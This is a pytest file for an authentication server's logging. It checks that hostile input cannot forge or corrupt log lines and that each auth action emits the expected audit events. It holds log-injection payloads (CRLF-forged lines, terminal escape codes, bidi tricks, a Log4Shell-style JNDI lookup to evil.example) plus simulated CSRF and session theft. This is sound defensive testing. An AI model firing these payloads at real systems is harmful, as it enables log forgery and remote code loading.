"""Whatever a caller writes, a log stays a list of lines that we wrote (EL-02, EL-05, EL-06)."""

import json
import logging
import re
import signal
from pathlib import Path

import pytest

from tests.support.asgi import call
from tests.support.browser import PASSWORD, Browser
from tests.support.gates import NOW, SECRET, GateHarness
from tests.support.process import serving
from tests.system.security.raw_socket import request, say

FORGERY = '2026-01-01 00:00:00,000 CRITICAL forged {"event":"forged"}'
NASTY = {
    "a line break": f"x\n{FORGERY}",
    "a carriage return": f"x\r\n{FORGERY}",
    "a colour and a cleared screen": "\x1b[31m\x1b[2Jforged",
    "a title of the terminal": "\x1b]0;forged\x07",
    "a backspace": "x\x08\x08forged",
    "a NUL": "x\x00forged",
    "a delete": "x\x7fforged",
    "a next line": "x\x85forged",
    "a line separator": "x\u2028forged",
    "a turned direction": "x\u202egro.live\u2066forged",
    "a tag character": "x\U000e0001forged",
    "an end of the JSON": 'x"}\n{"event":"forged"}',
    "a format": "%s%n%(levelname)s{0.__class__}${jndi:ldap://evil.example/a}",
}
PLACES = [
    *("user-agent", "x-forwarded-for", "forwarded", "referer", "origin", "cookie", "authorization", "host"),
    *("gatepass-session", "gatepass-client", "gatepass-proof", "content-type", "accept-language", "x-request-id"),
]


EXPECTED = {
    *("user_created", "session_created", "session_revoked"),
    *("authn_login_fail", "authn_login_throttled", "malicious_csrf", "authz_fail"),
}


def is_fit(text: str) -> bool:
    """Printable ASCII, so that no terminal and no reader of lines is led astray."""
    return text.isascii() and text.isprintable()


@pytest.mark.parametrize("what", NASTY)
async def test_no_input_reaches_a_record_as_it_came(
    at: GateHarness, caplog: pytest.LogCaptureFixture, what: str
) -> None:
    text = NASTY[what]
    browser = Browser(at.gate.asgi)
    await browser.register()
    with caplog.at_level(logging.DEBUG):
        for email, password in ((text, "x"), (f"{text}@example.com", text), ("ann@example.com", text)):
            await browser.login(email, password)
            await browser.register(email, password)
        wire = re.sub(rb"[\x00-\x08\x0a-\x1f\x7f]", b"?", text.encode())
        for place in PLACES:
            for path in ("/login", "/refresh", "/logout", "/me", f"/{text}", f"/sessions/{text}"):
                headers: list[tuple[str, str | bytes]] = [(place, wire)]
                if place != "gatepass-client":
                    headers.append(("gatepass-client", "1"))
                await call(at.gate.asgi, "POST", path, headers=headers, query=wire)
                await call(at.gate.asgi, "DELETE", path, headers=[*headers, ("authorization", "Bearer x.y.z")])
        await call(at.gate.asgi, "POST", "/login", headers=[("origin", "https://evil.example")], body=text.encode())
        at.store.before = _fail
        for path in ("/login", "/refresh", f"/{text}"):
            await browser.send("POST", path, headers=browser.refresh_headers(), body={"email": "a", "password": text})
    at.store.before = None
    ours = [record for record in caplog.records if record.name.startswith("gatepass")]
    assert len(ours) > 5
    for record in ours:
        assert is_fit(record.getMessage()), record
        if record.name == "gatepass.events":
            assert json.loads(record.getMessage())["event"] in EXPECTED
    assert "/" in text or any("/sessions/" in record.getMessage() for record in ours), (
        "a path is told, within a line of ours"
    )


async def _fail(verb: str) -> None:
    raise RuntimeError("broken on purpose")


def test_all_that_a_server_says_is_lines_of_its_own(tmp_path: Path) -> None:
    """The same against `gatepass serve`, over a socket, as its standard error shows it."""
    settings = {"SECRET": SECRET, "STORE": "sqlite:///gate.db", "PUBLIC_URL": "http://localhost:8000"}
    with serving(tmp_path, settings) as server:
        for text in NASTY.values():
            raw = text.encode()
            for place in PLACES:
                say(
                    server.port,
                    request("POST", "/auth/login").replace(b"\r\n\r\n", b"\r\n%s: %s\r\n\r\n" % (place.encode(), raw)),
                )
            say(server.port, b"GET /auth/" + raw + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")
            say(server.port, raw + b" / HTTP/1.1\r\n\r\n")
            body = json.dumps({"email": text, "password": text}).encode()
            head = ("Gatepass-Client: 1", "Content-Type: application/json", f"Content-Length: {len(body)}")
            say(server.port, request("POST", "/auth/login", *head, body=body))
        code, said = server.stop(signal.SIGTERM)
    assert code == 0
    lines = said.split("\n")
    assert len(lines) > 50
    for line in lines:
        assert is_fit(line), line
        if line.startswith("{"):
            assert json.loads(line)["event"] in EXPECTED
        else:
            assert "forged" not in line


WHO = {"at", "event", "address"}
WHERE = "203.0.113.0/24"
"""The network of every caller of these tests, as events name it."""
ACTIONS: dict[str, list[tuple[str, set[str]]]] = {
    "register": [("user_created", {"account_id"}), ("session_created", {"account_id", "sid"})],
    "sign in": [("session_created", {"account_id", "sid"})],
    "sign in with a wrong password": [("authn_login_fail", {"account_id"})],
    "sign in as nobody": [("authn_login_fail", {"account_id"})],
    "guess on": [("authn_login_fail", {"account_id"})] * 5 + [("authn_login_throttled", {"retry_after"})],
    "refresh": [("session_renewed", {"account_id", "sid", "generation", "case"})],
    "copy the cookie": [("authn_refresh_unproven", {"sid", "generation", "reason"})],
    "steal an unbound session": [
        ("session_created", {"account_id", "sid"}),
        ("session_bound", {"account_id", "sid"}),
        ("session_renewed", {"account_id", "sid", "generation", "case"}),
        ("authn_token_reuse", {"account_id", "sid", "generation"}),
    ],
    "sign out": [("session_revoked", {"account_id", "sid", "reason"})],
    "use after the end": [
        ("session_revoked", {"account_id", "sid", "reason"}),
        ("session_use_after_expire", {"sid", "reason"}),
    ],
    "sign out everywhere": [("session_revoked", {"account_id", "sid", "reason"})],
    "end another session": [
        ("session_created", {"account_id", "sid"}),
        ("session_revoked", {"account_id", "sid", "reason"}),
    ],
    "end the others": [
        ("session_created", {"account_id", "sid"}),
        ("session_revoked", {"account_id", "sid", "reason"}),
    ],
    "sign in again in the same browser": [
        ("session_created", {"account_id", "sid"}),
        ("session_revoked", {"account_id", "sid", "reason"}),
    ],
    "change the password": [
        ("session_created", {"account_id", "sid"}),
        ("authn_password_change", {"account_id"}),
        *[("session_revoked", {"account_id", "sid", "reason"})] * 2,
        ("session_created", {"account_id", "sid"}),
    ],
    "delete the account": [
        ("user_deleted", {"account_id"}),
        ("session_revoked", {"account_id", "sid", "reason"}),
    ],
    "come from elsewhere": [("malicious_csrf", {"path"})],
    "come with a bad pass": [("authz_fail", {"path"})],
}


async def act(what: str, browser: Browser) -> None:
    """Do one thing of the table."""
    other = browser.clone(key=browser.key)
    match what:
        case "register":
            await Browser(browser.app).register("bob@example.com")
        case "sign in":
            await Browser(browser.app).login()
        case "sign in with a wrong password":
            await Browser(browser.app).login(password="wrong")
        case "sign in as nobody":
            await Browser(browser.app).login("nobody@example.com")
        case "guess on":
            for _ in range(6):
                await Browser(browser.app).login(password="wrong")
        case "refresh":
            await browser.refresh()
        case "copy the cookie":
            other.key = b"t" * 32
            await other.refresh()
        case "steal an unbound session":
            phone = Browser(browser.app, key=None)
            await phone.login()
            phone.key = b"k" * 32
            thief = phone.clone()
            await phone.refresh(binds=True)
            await thief.refresh()
        case "sign out":
            await browser.logout()
        case "use after the end":
            await browser.logout()
            await other.refresh()
        case "sign out everywhere":
            await browser.send("POST", "/logout-all", headers=[browser.bearer])
        case "end another session":
            phone = Browser(browser.app)
            await phone.login()
            await browser.send("DELETE", f"/sessions/{phone.sid}", headers=[browser.bearer])
        case "end the others":
            await Browser(browser.app).login()
            await browser.send("POST", "/logout-others", headers=[browser.bearer])
        case "sign in again in the same browser":
            await browser.login()
        case "delete the account":
            await browser.send("DELETE", "/account", headers=[browser.bearer], body={"password": PASSWORD})
        case "change the password":
            await Browser(browser.app).login()
            body = {"current": "seven green bottles on a wall", "new": "eight green bottles on a wall"}
            await browser.send("POST", "/password", headers=[browser.bearer], body=body)
        case "come from elsewhere":
            headers = [("origin", "https://evil.example"), ("gatepass-client", "1")]
            await call(browser.app, "POST", "/login", headers=headers)
        case "come with a bad pass":
            await call(browser.app, "GET", "/me", headers=[("authorization", "Bearer x.y.z")])


@pytest.mark.parametrize("what", ACTIONS)
async def test_each_action_is_these_lines_with_when_who_where_and_what(
    at: GateHarness, ann: Browser, caplog: pytest.LogCaptureFixture, what: str
) -> None:
    with caplog.at_level(logging.INFO, logger="gatepass.events"):
        await act(what, ann)
    lines = [json.loads(record.getMessage()) for record in caplog.records if record.name == "gatepass.events"]
    assert [(line["event"], set(line) - WHO) for line in lines] == ACTIONS[what]
    for line in lines:
        assert line["at"] == NOW, "Unix seconds, which know no time zone"
        assert line["address"] == WHERE, line


async def test_an_unexpected_error_tells_the_caller_nothing_and_the_log_everything(
    at: GateHarness, ann: Browser, caplog: pytest.LogCaptureFixture
) -> None:
    at.store.before = _fail
    answer = await ann.refresh()
    at.store.before = None
    assert (answer.status, answer.code) == (500, "internal-error")
    assert b"broken" not in answer.body
    assert b"Traceback" not in answer.body
    assert "broken on purpose" in caplog.text
    assert "Traceback" in caplog.text
